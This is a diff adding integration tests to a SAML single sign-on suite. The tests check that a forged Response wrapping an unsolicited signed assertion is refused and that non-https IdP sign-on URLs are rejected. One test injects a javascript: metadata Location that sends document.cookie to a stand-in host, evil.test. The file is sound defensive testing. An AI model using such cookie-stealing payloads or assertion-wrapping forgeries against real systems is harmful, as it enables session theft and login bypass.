@@ -122,6 +122,39 @@ describe('SAML 2.0 single sign-on against a real identity provider (integration:
     expectRefused(await post(await idp.signedResponse(sp, forOther.requestId, 'ben@acme-saml.test'), third.relayState), /InResponseTo/);
   });
 
+  it("refuses a signed IdP-initiated assertion wrapped in a forged Response naming this sign-in's request", async () => {
+    // An assertion the IdP issued unsolicited (no InResponseTo inside the signed part), e.g. stolen
+    // from another browser; only the unsigned Response around it is made to name a pending request.
+    const { requestId, relayState } = await initiate();
+    const unsolicited = decode(await idp.signedResponse(sp, '', 'kim@acme-saml.test'));
+    const tagEnd = unsolicited.indexOf('>', unsolicited.indexOf('<samlp:Response')) + 1;
+    const responseTag = unsolicited.slice(0, tagEnd);
+    expect(responseTag).toContain('InResponseTo=""');
+    expect(unsolicited.slice(tagEnd)).toContain('InResponseTo=""');
+    const forged = responseTag.replace('InResponseTo=""', `InResponseTo="${requestId}"`) + unsolicited.slice(tagEnd);
+    expectRefused(await post(encode(forged), relayState), /InResponseTo is missing/);
+    expect(await usersNamed('kim@acme-saml.test')).toEqual([]);
+  });
+
+  it('refuses an IdP single sign-on URL that is not https, given or from metadata (422)', async () => {
+    const create = (config: Record<string, string>) =>
+      stack.http
+        .post('/api/v1/sso/connections')
+        .set(bearer(owner.token))
+        .send({ name: 'Plain', kind: 'saml', domains: ['plain-saml.test'], config });
+    const given = await create({
+      idp_entity_id: 'https://idp.plain.test/metadata',
+      idp_sso_url: 'http://idp.plain.test/sso',
+      idp_certificate: 'MIIBcert',
+    }).expect(422);
+    expect(given.body.errors.map((error: { path: string }) => error.path)).toContain('body.config.idp_sso_url');
+    // Browsers are sent to the metadata's Location: a javascript: one would run on whoever follows it.
+    const scripted = idp.metadata().replace(/Location="[^"]+"/, `Location="javascript:fetch('//evil.test/'+document.cookie)"`);
+    expect(scripted).toContain('Location="javascript:');
+    const fromMetadata = await create({ idp_metadata_xml: scripted }).expect(422);
+    expect(JSON.stringify(fromMetadata.body.errors)).toMatch(/not an https URL/);
+  });
+
   it('refuses a tampered response, creating nothing', async () => {
     const { requestId, relayState } = await initiate();
     const xml = decode(await idp.signedResponse(sp, requestId, 'cat@acme-saml.test'));
